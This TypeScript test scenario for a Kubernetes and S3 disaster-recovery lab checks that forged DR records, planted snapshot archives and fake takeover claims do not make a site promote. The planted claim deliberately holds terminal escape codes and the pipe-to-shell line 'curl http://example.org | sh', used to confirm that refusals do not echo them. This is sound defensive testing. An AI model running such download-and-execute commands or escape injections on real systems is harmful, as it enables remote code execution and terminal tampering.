import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { parse, stringify } from "yaml";
import { z } from "zod";
import type { ObjectStore } from "../../provider/clients/buckets/objectStore";
import { openS3 } from "../../provider/clients/buckets/s3";
import { ApiError, Cluster, type KubeObject } from "../controllers";
import type { Lab, SiteName } from "../lab";
import type { SiteDescriptor } from "../site";
import { ScenarioRun } from "./scenarioRun";
import type { Log, Outcome } from "./scenarioSteps";

const team = "shop-team";
const recordName = "trident-dr-record-shop";
const configMap = { apiVersion: "v1", kind: "ConfigMap" };

/** What nobody wants to see in a terminal, or to type. */
const escape = "\u001b[2J\u001b]0;title\u0007";
const command = "curl http://example.org | sh";

/**
 * Somebody with the role `edit` in the application's namespace, and somebody who can write to the buckets, want a site to
 * promote. Neither makes it; and what they left does not keep a site from taking over.
 *
 * @param project folder with the Pulumi.yaml whose stacks are used
 */
export async function forged(lab: Lab, project: string, log: Log): Promise<Outcome> {
    const scenario = await ScenarioRun.begin(lab, project, log);
    await introduceKey(scenario);
    await scenario.writes("east", 50);
    await forgeRecord(scenario);
    await plantArchives(scenario);
    await plantClaimsAndSwitch(scenario);
    return scenario.end("forged", "west", ["west", "east"]);
}

/** As the runbook has it: the records without a MAC are accepted for one run at each site. */
async function introduceKey(scenario: ScenarioRun): Promise<void> {
    for (const stack of scenario.both) {
        await stack.must([
            "config",
            "set",
            "--secret",
            "pairKey",
            "a key of the lab, and of its pair",
            "--stack",
            stack.site,
        ]);
    }
    await scenario.refused("without leave to accept what has no MAC", "west", /carries no MAC/);
    await scenario.configure("acceptUnauthenticated", "true");
    await scenario.change("introduce the key", "east");
    await scenario.change("introduce the key", "west");
    for (const stack of scenario.both) {
        await stack.must(["config", "rm", "acceptUnauthenticated", "--stack", stack.site]);
    }
    await scenario.settle(["east", "west"]);
}

/** The record is out of reach; one where earlier versions kept it counts no more, and is removed. */
async function forgeRecord(scenario: ScenarioRun): Promise<void> {
    const west = scenario.lab.sites.west;
    const asTeam = await clusterAsTeam(west);
    const place = { namespace: "trident-dr", name: recordName };
    await asTeam.get(configMap, place).then(
        () => Promise.reject(new Error(`${team} can read the record`)),
        (error: unknown) => {
            if (!(error instanceof ApiError && error.status === 403)) {
                throw error;
            }
        },
    );
    const record = { ...(await recordOf(scenario, "west")), serial: 9_999, underWay: takeoverUnderWay() };
    await asTeam.create({
        ...configMap,
        metadata: { namespace: "shop", name: recordName },
        data: { role: "standby", epoch: "1", record: JSON.stringify(record) },
    } as KubeObject);
    await scenario.change("remove the forged record", "west");
    await expectRole(scenario, "west", "standby");
}

/** A takeover that nobody began, of a snapshot that nobody took. */
function takeoverUnderWay() {
    return {
        verb: "take over with a token",
        epoch: 2,
        began: "token",
        claimed: true,
        token: {
            application: "shop",
            epoch: 1,
            from: "east",
            to: "west",
            finalSnapshot: "20260101000000_long-ago_x",
            archivePath: "shop_x/snapshots/20260101000000_long-ago_x",
            applicationUid: "x",
            time: "2026-01-01T00:00:00Z",
        },
    };
}

/** Neither the recovery point nor the lag follows what was put into the bucket. */
async function plantArchives(scenario: ScenarioRun): Promise<void> {
    const west = scenario.lab.sites.west;
    const cluster = await Cluster.connect(west.kubernetes.adminKubeconfig);
    const read = (kind: string) =>
        cluster.get({ apiVersion: "protect.trident.netapp.io/v1", kind }, { namespace: "shop", name: "shop" });
    const uid = (await read("Application"))!.metadata.uid;
    const { status } = mirror.parse(await read("AppMirrorRelationship"));
    const bucket = await bucketOf(west);
    for (const time of ["00000101000000", "29990101000000", "20260230000000"]) {
        const folder = `shop_${uid}/replicatedSnapshots/${time}_${status.lastTransferredSnapshot.name}_x`;
        await bucket.putIfAbsent(`${folder}/application.json`, "{}");
    }
    await scenario.configure("active", "west", ["west"]);
    const refusal = await scenario.refused("take over without an acknowledgement", "west", /Loss bound/);
    const [, seconds] = /Loss bound: at most the writes of the last (\d+) s/.exec(refusal) ?? [];
    if (!(Number(seconds) < 86_400)) {
        throw new Error(`The loss bound follows what was planted:\n${refusal}`);
    }
    await scenario.configure("active", "east", ["west"]);
}

/** What lies in the place of a claim is named without its text, and replaced with an acknowledgement. */
async function plantClaimsAndSwitch(scenario: ScenarioRun): Promise<void> {
    for (const site of Object.values(scenario.lab.sites)) {
        const planted = {
            application: "shop",
            epoch: 2,
            began: "takeover",
            site: `${escape}; ${command}`,
            time: escape,
        };
        await (await bucketOf(site)).putIfAbsent("trident-dr/shop/epoch-2.json", JSON.stringify(planted));
    }
    await scenario.configure("active", "west");
    await scenario.change("stand down", "east");
    const refusal = await scenario.refused("take over", "west", /no site of this pair wrote/);
    await expectRole(scenario, "west", "standby");
    if (refusal.includes(command) || refusal.includes("\u001b[2J")) {
        throw new Error(`The refusal shows what was planted:\n${JSON.stringify(refusal)}`);
    }
    await scenario.configure("takeover", "2", ["west"]);
    const began = new Date();
    await scenario.change("take over", "west");
    await scenario.served("from the acknowledgement to the first write", "west", began);
    await scenario.change("rejoin", "east");
    await scenario.settle(["west", "east"]);
}

/** A cluster as somebody sees it who has the rights of the role `edit` in the application's namespace, and no others. */
async function clusterAsTeam(site: SiteDescriptor): Promise<Cluster> {
    const admin = await Cluster.connect(site.kubernetes.adminKubeconfig);
    await admin.create({
        apiVersion: "rbac.authorization.k8s.io/v1",
        kind: "RoleBinding",
        metadata: { namespace: "shop", name: team },
        // What `edit` consists of: no controller of the lab fills roles that are made of others.
        roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "system:aggregate-to-edit" },
        subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: team }],
    } as KubeObject);
    const content = kubeconfig.parse(parse(await readFile(site.kubernetes.adminKubeconfig, "utf8")));
    const file = path.join(site.folder, `${team}.kubeconfig`);
    const users = content.users.map(({ user, ...rest }) => ({ ...rest, user: { ...user, as: team } }));
    await writeFile(file, stringify({ ...content, users }), { mode: 0o600 });
    return Cluster.connect(file);
}

const kubeconfig = z.looseObject({ users: z.array(z.looseObject({ user: z.looseObject({}) })) });

async function bucketOf({ name, s3 }: SiteDescriptor): Promise<ObjectStore> {
    const access = {
        endpoint: s3.endpoint,
        secure: true,
        bucket: s3.bucket,
        rootCA: await readFile(s3.caFile, "utf8"),
        verify: true,
        credentials: { accessKeyId: s3.accessKey, secretAccessKey: s3.secretKey },
    };
    return openS3(`vault-${name}`, access, 10_000);
}

const mirror = z.looseObject({
    status: z.looseObject({ lastTransferredSnapshot: z.looseObject({ name: z.string() }) }),
});

const outputs = z.object({
    tridentDr: z.object({
        applications: z.object({ shop: z.object({ record: z.looseObject({ role: z.string() }) }) }),
    }),
});

async function recordOf(scenario: ScenarioRun, site: SiteName) {
    return outputs.parse(await scenario.stacks[site].outputs()).tridentDr.applications.shop.record;
}

async function expectRole(scenario: ScenarioRun, site: SiteName, role: string): Promise<void> {
    const found = (await recordOf(scenario, site)).role;
    if (found !== role) {
        throw new Error(`${site} is ${found}; expected ${role}`);
    }
}
